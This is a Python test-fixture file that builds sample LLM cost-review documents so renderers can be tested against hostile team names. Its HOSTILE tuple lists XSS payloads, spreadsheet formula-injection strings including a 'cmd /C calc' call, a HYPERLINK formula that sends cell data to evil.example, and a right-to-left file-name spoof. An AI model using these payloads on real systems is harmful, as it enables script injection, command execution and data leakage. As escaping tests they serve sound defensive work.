"""Documents made by hand for the renderers: names that bite, tables of every kind, charts, notes."""

from datetime import date, timedelta
from fractions import Fraction

import polars as pl

from tenfold import charts
from tenfold.reviewing.document import (
    Card,
    Document,
    Heading,
    Lines,
    Made,
    MadeList,
    Picture,
    Prose,
    Section,
    Skipped,
    Table,
    Text,
    Tile,
    Tiles,
)
from tenfold.tables import Column, grid

USD = 10**12
SCRIPT = "<script>alert('x')</script><img src=x onerror=alert(1)>"
# each does harm in one form or another: pages, sheets, Markdown, PDF, terminals
HOSTILE = (
    SCRIPT,
    '" onmouseover="alert(1)" x="',
    "</title></svg></style></textarea>]]>--><h1>big</h1>",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "a|b|c | --- | [x](javascript:alert(1)) ![i](http://evil.example/i.png)",
    "`code` ``` ~~~ **bold** _it_ # h *",
    "https://evil.example/?q=1 www.evil.example me@evil.example @octocat",
    "abc\u202egnp.exe",
    "nul\x00bell\x07esc\x1b[31m",
    "lone\ud800surrogate\uffff",
    "zero\u200bwidth\ufeff",
    "two\nlines\tand a tab",
    "\u05e2\u05d1\u05e8\u05d9\u05ea 12 \u0639\u0631\u0628\u064a",
    "\U0001f389 party \U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\u4e2d\u6587\u56e2\u961f",
    "#{sys.inputs} $x$ #panic(1) \\u{41}",
    "$1$ {{ 7 * 7 }} {% raw %}",
    "long-" + "name" * 74,
    "' quoted",
    "",
)  # fmt: skip
PLAIN = ("search", "chat-assistant", "billing", "document-intake", "research", "unallocated")
# polars holds no lone surrogate, so no chart is given one
DRAWN = tuple(name for name in HOSTILE if "\ud800" not in name)


def spend(names=PLAIN):
    """A table with a total that is a sum, shares of it, and every other kind of column."""
    costs = [(7_000 - 250 * n) * USD + 123_456_789_012 + n for n in range(len(names))]
    total = sum(costs)
    rows = [
        (name, cost, Fraction(cost, total), 1000 * n + 7, Fraction(n, 3), date(2026, 7, n % 28 + 1), f"note on {name}")
        for n, (name, cost) in enumerate(zip(names, costs, strict=True))
    ]
    rows[0] = (*rows[0][:3], None, "not measured", None, None)
    return grid(
        "table-spend",
        f"Spend by {names[0]}",
        [
            Column("name", "team"),
            Column("cost", "cost", "pusd", sums=True),
            Column("share", "share", "ratio", share_of="cost"),
            Column("requests", "requests", "count", sums=True),
            Column("per", "tokens a request", "number"),
            Column("day", "first day", "date"),
            Column("note", "note"),
        ],
        [*rows, ("total", total, Fraction(1), sum(row[3] or 0 for row in rows), None, None, None)],
        note=f"Names come from the log, such as {names[-2]}.",
        has_total=True,
    )


def by_meter(names):
    """What the composition chart draws."""
    return pl.DataFrame(
        {
            "team": list(names),
            "cost_pusd": [(900 - 40 * n) * USD for n in range(len(names))],
            "uncached_input_pusd": [(500 - 21 * n) * USD for n in range(len(names))],
            "cache_read_pusd": [(100 - 4 * n) * USD for n in range(len(names))],
            "output_pusd": [(300 - 15 * n) * USD for n in range(len(names))],
        },
        schema_overrides={"cost_pusd": pl.Int64},
    )


def per_day(names):
    """What the chart of days draws."""
    days = [date(2026, 7, 1) + timedelta(days=n) for n in range(92)]
    rows = [(day, name, (20 + k + n % 7) * USD) for n, day in enumerate(days) for k, name in enumerate(names[:7])]
    return pl.DataFrame(rows, schema={"day": pl.Date, "team": pl.String, "cost_pusd": pl.Int64}, orient="row")


def document(names=PLAIN, *, drawn=None, title="LLM cost review 2026Q3", pictures=True):
    """A review of full size over some names."""
    drawn = drawn or names
    one, other = names[0], names[3]
    picture = Picture(
        charts.composition(by_meter(drawn), "team", top=len(drawn)),
        "chart-by-team",
        f"Cost by team, cut by meter, {one}",
        f"A bar for each team, stacked by meter. Largest: {one} 22 %, {other} 18 %.",
        "made-spend",
        f"Cost by team. Largest: {one} 22 %.",
    )
    days = Picture(
        charts.spend_per_day(per_day(drawn), "team"),
        "chart-days",
        "Spend per day",
        f"Stacked columns, $140 to $190 a day; {one} is the largest.",
        "made-days",
    )
    plan = Picture(
        charts.waterfall(pl.DataFrame({"step": ["spend", "batch", "cache"], "pusd": [100 * USD, 20 * USD, 11 * USD]})),
        "chart-plan",
        "From spend to spend after the plan",
        "Spend $100.00, batch -$20.00, cache -$11.00, left $69.00.",
        "made-spend",
    )
    summary = Section(
        "summary",
        "Summary",
        (
            Tiles(
                (
                    Tile("spend, priced", "$39,310.74", "every billable request has a price", "made-spend"),
                    Tile("against 2026Q2", "+12.4 %", f"most of it {other}", "made-days"),
                    Tile("budget used", "104 %", "of $38,000", "made-spend"),
                    Tile("cost per success", "$0.0412", "was $0.0398", "made-days"),
                )
            ),
            Prose(f"Spend rose by $4,337.12 (12.4 %), of which `{one}` is 61 % and {other} the rest.", "made-spend"),
            Lines((f"Input is 71 % of cost; {one} leads.", f"`{other}` 12 % (3.50), then none."), "made-days"),
            Heading(f"Top levers of {one}"),
            Lines(("batch_api saves $20.00 (exact). Send `evals` by batch.", "=1+1 is no formula"), "made-spend"),
        ),
        (
            Made("made-spend", f"Spend of {one}", f"Sum over requests of {one}, exact.", "totals"),
            Made("made-days", "Spend per day", "By day in the report's zone."),
        ),
    )
    composition = Section(
        "composition",
        f"Composition & allocation of: {one}"[:60],
        (
            *((picture,) if pictures else ()),
            Table(spend(names), "made-spend"),
            Heading("By day"),
            *((days, plan) if pictures else ()),
            Table(
                grid(
                    "table-small",
                    "Rates",
                    [Column("model", "model"), Column("price", "USD", "pusd")],
                    [("gpt-x", 250_000), (other, None), (one, "not priced")],
                ),
                "made-days",
            ),
        ),
    )
    levers = Section(
        "levers",
        "Levers",
        (
            Prose("A paragraph without numbers to follow."),
            Card(f"batch_api for {one}", (("first", (f"send `{one}` by batch", "then wait")), (other, ("undo it",)))),
        ),
    )
    appendix = Section(
        "appendix",
        "Appendix",
        (
            Heading("How each number was made"),
            MadeList(),
            Heading("SQL steps"),
            Text("totals", f"-- {one}\nselect sum(cost) as cost\nfrom priced -- ```\n"),
        ),
    )
    reason = f'the log has no outcomes; map them with `outcome = "{one}"`'
    skipped = (Skipped("Unit economics", reason),)
    return Document(
        title, f"2026-07-01 to 2026-10-01 (exclusive), UTC · {one}", (summary, composition, levers, appendix), skipped
    )


def hostile(**changes):
    """A review whose names all bite, its title too."""
    return document(HOSTILE, drawn=DRAWN, title=f"Review {SCRIPT}", **changes)
